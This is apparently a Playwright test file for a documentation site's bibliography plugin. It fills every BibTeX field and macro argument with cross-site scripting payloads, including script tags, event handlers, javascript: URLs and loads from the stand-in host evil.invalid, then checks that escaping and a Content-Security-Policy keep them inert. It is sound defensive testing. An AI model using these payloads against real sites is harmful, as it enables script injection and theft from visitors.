"""A bibliography that attacks its readers: nothing of it is run, asked for or applied.

Each work has a payload in every field, and pages hand more of them to macros. A payload that came
alive would open a dialog, ask another host, or ask the site for a file that is not there.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from contextlib import nullcontext
from pathlib import Path

import pytest
from conftest import address_of, free_server, served
from playwright.sync_api import Browser, Dialog, Page, expect
from tiny import Tiny

from browser.pages import open_page, reader

RUN = "window.pwned=1;alert(1)"
PAYLOADS = [
    f"<script>{RUN}</script>",
    "<script src=//evil.invalid/a.js></script>",
    f"<img src=no-such-image onerror={RUN}>",
    "<img src=//evil.invalid/a.png>",
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>go</text></a></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>",
    "<style>@import '//evil.invalid/a.css'; p {background: url(//evil.invalid/b.png)}</style>",
    "<link rel=stylesheet href=//evil.invalid/a.css>",
    "<base href=//evil.invalid/><meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus tabindex="0" x="',
    f"' onmouseover='{RUN}' onfocus='{RUN}' style='background:url(//evil.invalid/c.png)' x='",
    f"</script><script>{RUN}</script><!--",
    f"</template></textarea></title></style><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}>",
    f"javascript:{RUN}",
    f" JaVaScRiPt:{RUN}//https://example.org/",
    f"data:text/html,<script>{RUN}</script>",
    f'https://example.org/"onmouseover="{RUN}',
    f"\\href{{javascript:{RUN}}}{{go}} \\url{{javascript:{RUN}}}",
    f"$\\text{{<img src=x onerror={RUN}>}} \\frac{{<svg onload={RUN}>}}{{2}}$",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cimg src=x onerror={RUN}\\u003e %3Cscript%3E{RUN}%3C/script%3E",
    "{{ cite.__globals__ }} {% include 'main.html' %} ${alert(1)}",
]
FIELDS = (
    "title", "subtitle", "booktitle", "journaltitle", "publisher", "location", "edition", "volume",
    "number", "pages", "series", "note", "howpublished", "keywords", "abstract", "url", "doi",
    "eprint", "eprinttype", "isbn", "langid", "urldate", "institution", "type",
)  # fmt: skip
TYPES = ("article", "book", "incollection", "misc", "thesis", "online")
KEY = '"><img/src=x/onerror=alert(1)>'
CONFIG = """\
site_name: Hostile
site_url: {url}
theme:
  name: material
  font: false
  features: [navigation.instant, search.highlight, search.suggest, content.code.copy]
markdown_extensions: [tables, footnotes]
plugins:
  search:
  refctx: {{csp: true, findings: {{"*": ignore}}}}
"""
META = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
PAGES = ("404.html", "lists/", "", "refs/")


def library() -> str:
    """A work for each payload, which stands in all of its fields, and one with a hostile key.

    An author of two works is a choice of the list's tools.
    """
    works = []
    for number, payload in enumerate(PAYLOADS):
        fields = "".join(f"  {name} = {{{payload}}},\n" for name in FIELDS)
        kind, year = TYPES[number % len(TYPES)], 2000 + number
        people = f"  author = {{{{{payload}}} and {{{PAYLOADS[2]}}}}},\n"
        works.append(f"@{kind}{{work{number},\n{people}{fields}  year = {{{year}}},\n}}\n")
    return "".join(works) + f"@misc{{{KEY},\n  title = {{A hostile key}},\n  year = 1999,\n}}\n"


def text(payload: str) -> str:
    """A payload as an argument of a macro."""
    return json.dumps(payload.replace("{{", "{ {").replace("}}", "} }"))


def write(folder: Path, url: str) -> Tiny:
    """The site, in every part of which payloads stand."""
    shown = [f"Before `{p}` it says [@work{n}], `{p}`." for n, p in enumerate(PAYLOADS)]
    heading = f"## Heading `{PAYLOADS[2]}`\n\n"
    items = "".join(
        f"  item('work{n}', {text(p)}, {text(p)}, url={text(p)}),\n" for n, p in enumerate(PAYLOADS)
    )
    hostile = text(PAYLOADS[2])
    lists = (
        f"# Lists\n\n{{{{ reading_list(\n{items}  title={hostile}, name={hostile}) }}}}\n\n"
        f"{{{{ marks() }}}}\n\n{{{{ chart(title={hostile}) }}}}\n\n"
        f"{{{{ cite('work1', prefix={hostile}, locator={hostile}) }}}}\n"
    )
    site = Tiny(folder).put("mkdocs.yml", CONFIG.format(url=url))
    (folder / "bib").mkdir()
    (folder / "bib/library.bib").write_text(library(), encoding="utf-8")
    site.put("docs/index.md", f"# Home\n\n{heading}" + "\n\n".join(shown) + f"\n\n[@{{{KEY}}}]\n")
    site.put("docs/refs.md", f"# References\n\n{{{{ bibliography(title={hostile}) }}}}\n")
    return site.put("docs/lists.md", lists)


def watch(page: Page, origin: str) -> list[str]:
    """Note all that a payload which came alive would do, and all that a policy forbids."""
    found: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        found.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def note(kind: str, value: object, *, fault: bool = True) -> None:
        if fault:
            found.append(f"{kind}: {value}")

    own = (origin, "blob:", "data:")
    page.on("dialog", on_dialog)
    page.on("pageerror", lambda error: note("error", error))
    page.on("popup", lambda popup: note("popup", popup.url))
    page.on("console", lambda said: note("console", said.text, fault=said.type == "error"))
    page.on("request", lambda r: note("request", r.url, fault=not r.url.startswith(own)))
    page.on("response", lambda r: note("missing", r.url, fault=r.status >= 400))
    return found


# Points at every element and gives it the focus, where there is a citation with its card; returns
# what is alive though it may have done nothing yet.
PROVOKE = """() => {
  const alive = new Set(window.pwned ? ["pwned"] : []);
  const look = (one) => {
    const live = one.matches("iframe, object, embed, base, [srcdoc], [autofocus], [style*=evil]");
    const acts = ({ name, value }) => name.startsWith("on")
      || /href|src|action|data$/.test(name) && /^\\s*(javascript|data):/i.test(value);
    if (live || [...one.attributes].some(acts)) alive.add(one.outerHTML.slice(0, 200));
  };
  for (const one of document.body.querySelectorAll("*")) {
    look(one);
    for (const type of ["pointerover", "mouseover", "focus"]) one.dispatchEvent(new Event(type));
    if (!one.matches("a.refctx-citation")) continue;
    one.focus();
    const card = document.getElementById("refctx-card");
    if (!card) alive.add("no card");
    else card.querySelectorAll("*").forEach(look);
  }
  return [...alive];
}"""


def provoke(page: Page, found: list[str]) -> None:
    """Point at everything that is shown, and open each card."""
    page.keyboard.press("Tab")
    found += [f"alive: {element}" for element in page.evaluate(PROVOKE)]


def read_citations(page: Page) -> None:
    """Follow a citation to its entry and back."""
    citations = page.locator("a.refctx-citation")
    expect(citations).to_have_count(len(PAYLOADS) + 1)
    citations.last.hover()
    expect(page.locator("#refctx-card")).to_contain_text("A hostile key")
    citations.last.click()
    page.wait_for_url(re.compile("/refs/#bib-"))
    expect(page.locator(".refctx-entry")).to_have_count(len(PAYLOADS) + 1)
    page.locator(".refctx-backlink").first.hover()
    page.locator(".refctx-backlink").first.click()
    page.wait_for_url(re.compile("#refctx-bib-"))


def use_tools(page: Page, found: list[str]) -> None:
    """Filter by each facet and by words of a payload; copy and download what is left."""
    fields = page.locator(".refctx-tools select:not([name=sort])").all()
    assert len(fields) == 4
    for field in fields:
        for value in field.locator("option").evaluate_all("all => all.map(one => one.value)")[:4]:
            field.select_option(value)
        field.select_option("")
    page.locator("[name=find]").fill("onerror")
    expect(page.locator(".refctx-entry:visible").first).to_contain_text("onerror")
    page.locator(".refctx-cite:visible").first.click()
    page.get_by_role("menuitem").first.click()
    with page.expect_download():
        page.locator(".refctx-exports").get_by_text("BibTeX", exact=True).click()
    provoke(page, found)


def search(page: Page, found: list[str]) -> None:
    """Search for words of a payload, and go to a hit."""
    field = page.locator(".md-search__input")
    field.click()
    field.fill("onerror")
    field.dispatch_event("keyup")
    # The first is the page itself.
    hit = page.locator(".md-search-result__item .md-search-result__link").nth(1)
    expect(hit).to_contain_text("onerror")
    hit.click()
    page.wait_for_url(re.compile(r"\?h="))
    provoke(page, found)


def tour(page: Page, address: str, found: list[str]) -> None:
    """Read the whole site."""
    for path in PAGES:
        open_page(page, address + path)
        provoke(page, found)
        if path == "lists/":
            page.locator(".refctx-item input").first.check()
        elif path == "":
            read_citations(page)
        elif path == "refs/":
            use_tools(page, found)
            search(page, found)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    """The built site, with a policy; its folder and address."""
    folder = tmp_path_factory.mktemp("hostile")
    server = free_server(folder / "site")
    write(folder, address_of(server)).build()
    with served(folder / "site", server) as address:
        yield folder / "site", address


def without_policy(folder: Path) -> None:
    """Take the policy out of each page, so that escaping stands alone."""
    for file in folder.rglob("*.html"):
        page, count = META.subn("", file.read_text(encoding="utf-8"))
        assert count == 1
        file.write_text(page, encoding="utf-8")


@pytest.mark.parametrize("policy", [True, False], ids=["policy", "escaping alone"])
def test_nothing_of_a_hostile_bibliography_comes_alive(
    hostile: tuple[Path, str], browser: Browser, tmp_path: Path, policy: bool
) -> None:
    """No dialog, no request, no error, and nothing that a policy would have to forbid."""
    folder, address = hostile
    if not policy:
        shutil.copytree(folder, tmp_path / "site")
        without_policy(tmp_path / "site")
    options = {"viewport": {"width": 1280, "height": 900}, "reduced_motion": "reduce"}
    with (
        served(tmp_path / "site") if not policy else nullcontext(address) as origin,
        reader(browser, watched=False, **options) as page,
    ):
        found = watch(page, origin)
        tour(page, origin, found)
    assert found == []


PLANTED = f"<img src=no-such-image onerror={RUN}><script>{RUN}</script><p onmouseover={RUN}>x</p>"


def planted(site: Path, browser: Browser) -> list[str]:
    """What is noticed in a page of the site into which payloads got."""
    file = site / "404.html"
    text = file.read_text(encoding="utf-8").replace("<article", PLANTED + "<article", 1)
    file.write_text(text.replace("</body>", PAYLOADS[1] + "</body>"), encoding="utf-8")
    with served(site) as origin, reader(browser, watched=False) as page:
        found = watch(page, origin)
        open_page(page, origin + "404.html")
        provoke(page, found)
    return found


def test_what_comes_alive_is_noticed(
    hostile: tuple[Path, str], browser: Browser, tmp_path: Path
) -> None:
    """A page into which payloads got opens dialogs, asks another host, and is found out."""
    shutil.copytree(hostile[0], tmp_path / "site")
    without_policy(tmp_path / "site")
    found = planted(tmp_path / "site", browser)

    assert {text.partition(":")[0] for text in found} == {
        "dialog", "request", "missing", "console", "alive",
    }  # fmt: skip
    assert sum(text.startswith("dialog") for text in found) >= 3
    assert "alive: pwned" in found


def test_the_policy_stops_what_comes_alive(
    hostile: tuple[Path, str], browser: Browser, tmp_path: Path
) -> None:
    """Should escaping ever fail, no handler and no script is run, and none is fetched."""
    shutil.copytree(hostile[0], tmp_path / "site")
    found = planted(tmp_path / "site", browser)

    assert not any(text.startswith(("dialog", "alive: pwned")) for text in found)
    violations = [text for text in found if "Content Security Policy" in text]
    assert any("evil.invalid" in text for text in violations)
    assert len(violations) >= 4
